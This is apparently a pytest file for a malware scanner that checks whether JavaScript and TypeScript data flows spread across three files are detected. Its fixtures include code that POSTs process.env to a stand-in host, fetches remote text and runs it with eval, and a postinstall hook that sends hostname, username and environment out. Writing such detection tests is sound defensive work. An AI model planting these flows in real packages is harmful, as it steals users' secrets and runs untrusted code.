"""Flows whose source, carrier and sink lie in three files; and the same files with the flow broken."""

# ruff: noqa: E501 - a case reads as the file that it is

from __future__ import annotations

from typing import NamedTuple

import pytest

from tests.evasion_javascript.case import HIGH, Case, files_of, findings, package_of, speaking, told


class Three(NamedTuple):
    """Files by name, of which ``main`` is loaded; ``broken`` are those that are replaced for the near miss."""

    name: str
    rule: str
    files: dict[str, str]
    broken: dict[str, str]
    main: str = "index.js"
    unseen: str = ""


_SECRET = "exports.secret = () => JSON.stringify(process.env);\n"
_HARMLESS = "exports.secret = () => JSON.stringify(Object.keys(process.versions));\n"
_SEND = "exports.send = (body) => fetch('https://example.invalid/a', { method: 'POST', body });\n"
_FETCH = "exports.load = async () => (await fetch('https://example.invalid/a')).text();\n"
_RUN = "exports.run = (code) => eval(code);\n"
_PRINT = "exports.run = (code) => console.log(code);\n"
_E_FETCH = "export async function load() { const r = await fetch('https://example.invalid/a'); return r.text(); }\n"
_E_RUN = "export function run(code) { return new Function(code)(); }\n"
_E_PRINT = "export function run(code) { return console.log(code); }\n"

FLOWS = (
    Three("CommonJS, members of exports", "EXFIL-001", {
        "a.js": _SECRET, "b.js": _SEND, "index.js": "const a = require('./a');\nconst { send } = require('./b');\nsend(a.secret());\n",
    }, {"a.js": _HARMLESS}),
    Three("CommonJS, module.exports as a function", "FETCH-001", {
        "lib/load.js": "const https = require('https');\nmodule.exports = (done) => https.get('https://example.invalid/a', (r) => { let t = ''; r.on('data', (d) => (t += d)); r.on('end', () => done(t)); });\n",
        "lib/run.js": "module.exports = function (code) { eval(code); };\n",
        "index.js": "require('./lib/load')(require('./lib/run.js'));\n",
    }, {"lib/run.js": "module.exports = function (code) { console.log(code); };\n"}),
    Three("CommonJS, exports that are copied", "FETCH-001", {
        "a.js": _FETCH, "b.js": "Object.assign(exports, require('./a'));\n",
        "index.js": "const b = require('./b');\nb.load().then((text) => eval(text));\n",
    }, {"index.js": "const b = require('./b');\nb.load().then((text) => console.log(text));\n"}),
    Three("CommonJS, exports that are spread", "FETCH-001", {
        "a.js": _FETCH, "b.js": "module.exports = { ...require('./a'), other: 1 };\n",
        "index.js": "const { load } = require('./b');\nload().then(eval);\n",
    }, {"index.js": "const { load } = require('./b');\nload().then(parseInt);\n"}),
    Three("CommonJS, exports behind a getter", "EXFIL-001", {
        "a.js": _SECRET, "b.js": "Object.defineProperty(exports, 'secret', { enumerable: true, get: function () { return require('./a').secret; } });\n",
        "index.js": "fetch('https://example.invalid/a', { method: 'POST', body: require('./b').secret() });\n",
    }, {"a.js": _HARMLESS}),
    Three("CommonJS, exports in a loop", "EXFIL-001", {
        "a.js": _SECRET, "b.js": "const a = require('./a');\nfor (const key in a) exports[key] = a[key];\n",
        "index.js": "fetch('https://example.invalid/a', { method: 'POST', body: require('./b').secret() });\n",
    }, {"a.js": _HARMLESS}),
    Three("CommonJS, a folder with an index", "FETCH-001", {
        "lib/index.js": "exports.load = require('./net').load;\nexports.run = require('../run').run;\n", "lib/net.js": _FETCH, "run.js": _RUN,
        "index.js": "const lib = require('./lib');\nlib.load().then(lib.run);\n",
    }, {"run.js": _PRINT}),
    Three("CommonJS, a folder with a manifest", "FETCH-001", {
        "lib/package.json": '{"main": "./src/net.js"}\n', "lib/src/net.js": _FETCH, "run.js": _RUN,
        "index.js": "(async () => require('./run').run(await require('./lib').load()))();\n",
    }, {"run.js": _PRINT}),
    Three("CommonJS, as TypeScript writes it", "EXFIL-001", {
        "a.js": '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.secret = void 0;\nconst secret = () => JSON.stringify(process.env);\nexports.secret = secret;\n',
        "b.js": '"use strict";\nvar __exportStar = (this && this.__exportStar) || function (m, e) { for (var p in m) if (p !== "default") e[p] = m[p]; };\nObject.defineProperty(exports, "__esModule", { value: true });\n__exportStar(require("./a"), exports);\n',
        "index.js": '"use strict";\nconst b_1 = require("./b");\nfetch("https://example.invalid/a", { method: "POST", body: (0, b_1.secret)() });\n',
    }, {"index.js": '"use strict";\nconst b_1 = require("./b");\nconsole.log((0, b_1.secret)());\n'}),
    Three("CommonJS, a class and its instance", "EXFIL-001", {
        "a.js": "module.exports = class { constructor() { this.found = { ...process.env }; } };\n",
        "b.js": "const Collector = require('./a');\nmodule.exports = new Collector();\n",
        "index.js": "require('axios').post('https://example.invalid/a', require('./b').found);\n",
    }, {"a.js": "module.exports = class { constructor() { this.found = { n: process.argv.length }; } };\n"}),
    Three("CommonJS, a value that is set from elsewhere", "EXFIL-001", {
        "a.js": "exports.value = null;\n", "b.js": "require('./a').value = JSON.stringify(process.env);\n",
        "index.js": "require('./b');\nfetch('https://example.invalid/a?' + require('./a').value);\n",
    }, {"b.js": "require('./a').value = String(process.pid);\n"}),
    Three("CommonJS, events", "FETCH-001", {
        "bus.js": "const { EventEmitter } = require('events');\nmodule.exports = new EventEmitter();\n",
        "a.js": "const bus = require('./bus');\nfetch('https://example.invalid/a').then((r) => r.text()).then((t) => bus.emit('code', t));\n",
        "index.js": "require('./bus').on('code', (code) => eval(code));\nrequire('./a');\n",
    }, {"index.js": "require('./bus').on('code', (code) => console.log(code));\nrequire('./a');\n"}),
    Three("CommonJS, an option of the caller", "EXFIL-001", {
        "a.js": "module.exports = ({ url, data }) => fetch(url, { method: 'POST', body: JSON.stringify(data) });\n",
        "b.js": "module.exports = (data, other) => require('./a')({ url: 'https://example.invalid/a', data });\n",
        "index.js": "require('./b')(process.env, 1);\n",
    }, {"index.js": "require('./b')(1, process.env);\n"}),
    Three("ES modules, names", "FETCH-001", {
        "a.mjs": _E_FETCH, "b.mjs": _E_RUN, "index.mjs": "import { load } from './a.mjs';\nimport { run as go } from './b.mjs';\ngo(await load());\n",
    }, {"b.mjs": _E_PRINT}, "index.mjs"),
    Three("ES modules, names that are passed on", "FETCH-001", {
        "a.mjs": _E_FETCH, "b.mjs": "export { load as fetchText, load as default } from './a.mjs';\n",
        "index.mjs": "import text, { fetchText } from './b.mjs';\nfetchText().then((code) => eval(code));\n",
    }, {"index.mjs": "import text, { fetchText } from './b.mjs';\nfetchText().then((code) => console.log(code));\n"}, "index.mjs"),
    Three("ES modules, export *", "FETCH-001", {
        "a.mjs": _E_FETCH, "b.mjs": "export * from './a.mjs';\nexport const other = 1;\n", "c.mjs": "export * from './b.mjs';\n",
        "index.mjs": "import { load } from './c.mjs';\neval(await load());\n",
    }, {"index.mjs": "import { load } from './c.mjs';\nconsole.log(await load());\n"}, "index.mjs"),
    Three("ES modules, export * as a namespace", "FETCH-001", {
        "a.mjs": _E_FETCH, "b.mjs": "export * as net from './a.mjs';\nexport * as run from './c.mjs';\n", "c.mjs": _E_RUN,
        "index.mjs": "import { net, run } from './b.mjs';\nnet.load().then(run.run);\n",
    }, {"c.mjs": _E_PRINT}, "index.mjs"),
    Three("ES modules, the default", "EXFIL-001", {
        "a.mjs": "export default () => ({ ...process.env });\n",
        "b.mjs": "export default class { constructor(url) { this.url = url; } send(data) { return fetch(this.url, { method: 'POST', body: JSON.stringify(data) }); } }\n",
        "index.mjs": "import collect from './a.mjs';\nimport Client from './b.mjs';\nnew Client('https://example.invalid/a').send(collect());\n",
    }, {"a.mjs": "export default () => ({ node: process.version });\n"}, "index.mjs"),
    Three("ES modules, a live binding", "EXFIL-001", {
        "a.mjs": "export let found = '';\nexport function collect() { found = JSON.stringify(process.env); }\n", "b.mjs": "import { collect } from './a.mjs';\ncollect();\n",
        "index.mjs": "import './b.mjs';\nimport { found } from './a.mjs';\nfetch('https://example.invalid/a', { method: 'POST', body: found });\n",
    }, {"b.mjs": "import { collect } from './a.mjs';\nexport { collect };\n"}, "index.mjs"),
    Three("ES modules, import()", "FETCH-001", {
        "a.mjs": _E_FETCH, "b.mjs": _E_RUN, "index.mjs": "const [{ load }, { run }] = await Promise.all([import('./a.mjs'), import('./b.mjs')]);\nrun(await load());\n",
    }, {"b.mjs": _E_PRINT}, "index.mjs"),
    Three("ES modules that load CommonJS", "FETCH-001", {
        "a.cjs": _FETCH, "b.cjs": _RUN, "index.mjs": "import { load } from './a.cjs';\nimport b from './b.cjs';\nb.run(await load());\n",
    }, {"b.cjs": _PRINT}, "index.mjs"),
    Three("names of the package's own imports", "FETCH-001", {
        "package.json": '{"name": "demo", "version": "1.0.0", "type": "module", "exports": "./index.js", "imports": {"#net": "./lib/a.js", "#run": {"node": "./lib/b.js", "default": "./lib/none.js"}}}\n',
        "lib/a.js": _E_FETCH, "lib/b.js": _E_RUN, "lib/none.js": "export const run = null;\n",
        "index.js": "import { load } from '#net';\nimport { run } from '#run';\nload().then(run);\n",
    }, {"lib/b.js": _E_PRINT}),
    Three("the package by its own name", "FETCH-001", {
        "package.json": '{"name": "demo", "version": "1.0.0", "exports": {".": "./index.js", "./net": "./lib/a.js"}}\n',
        "lib/a.js": _FETCH, "b.js": _RUN, "index.js": "const { load } = require('demo/net');\nload().then(require('./b').run);\n",
    }, {"b.js": _PRINT}),
    Three("TypeScript", "EXFIL-001", {
        "src/a.ts": "export function secret(): string { return JSON.stringify(process.env as Record<string, string>); }\n",
        "src/b.ts": "export const send = async <T,>(body: T): Promise<void> => { await fetch('https://example.invalid/a', { method: 'POST', body: body as any }); };\n",
        "index.ts": "import { secret } from './src/a';\nimport { send } from './src/b.js';\nvoid send<string>(secret());\n",
    }, {"src/a.ts": "export function secret(): string { return String(process.argv.length); }\n"}, "index.ts"),
    Three("TypeScript, a folder with an index", "FETCH-001", {
        "src/net/index.ts": "export * from './load';\nexport type { Loaded } from './load';\n",
        "src/net/load.ts": "export type Loaded = string;\nexport async function load(): Promise<Loaded> { return (await fetch('https://example.invalid/a')).text(); }\n",
        "index.ts": "import * as net from './src/net';\nnet.load().then((code: net.Loaded) => eval(code));\n",
    }, {"index.ts": "import * as net from './src/net';\nnet.load().then((code: net.Loaded) => console.log(code));\n"}, "index.ts"),
    Three("TypeScript, a base class", "FETCH-001", {
        "a.ts": "export abstract class Base { protected async load(): Promise<string> { return (await fetch('https://example.invalid/a')).text(); } }\n",
        "b.ts": "import { Base } from './a';\nexport class Child extends Base { async start(): Promise<void> { eval(await this.load()); } }\n",
        "index.ts": "import { Child } from './b';\nnew Child().start();\n",
    }, {"a.ts": "export abstract class Base { protected async load(): Promise<string> { return '1 + 1'; } }\n"}, "index.ts"),
    Three("a script of an install, and what it loads", "EXFIL-001", {
        "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node scripts/setup"}}\n',
        "scripts/setup.js": "require('../lib/send')(require('../lib/info')());\n",
        "lib/info.js": "const os = require('os');\nmodule.exports = () => ({ h: os.hostname(), u: os.userInfo().username, e: process.env });\n",
        "lib/send.js": "const https = require('https');\nmodule.exports = (data) => https.request('https://example.invalid/a', { method: 'POST' }).end(JSON.stringify(data));\n",
    }, {"lib/info.js": "module.exports = () => ({ n: 1 });\n"}),
)  # fmt: skip


def of(files: dict[str, str], main: str) -> Case:
    return Case("three files", "", HIGH, files.get(main, ""), main, files)


@pytest.mark.parametrize("flow", [
    pytest.param(
        flow, id=flow.name, marks=[pytest.mark.xfail(strict=True, reason=flow.unseen)] if flow.unseen else []
    )
    for flow in FLOWS
])  # fmt: skip
def test_a_flow_through_three_files(flow: Three) -> None:
    found = findings(package_of(files_of(of(flow.files, flow.main))))
    assert [each for each in speaking(found, flow.rule) if each.severity.at_least(HIGH)], told(found)


@pytest.mark.parametrize("flow", FLOWS, ids=[flow.name for flow in FLOWS])
def test_a_broken_flow_is_none(flow: Three) -> None:
    found = findings(package_of(files_of(of(flow.files | flow.broken, flow.main))))
    assert not [each for each in found if each.severity.at_least(HIGH)], told(found)
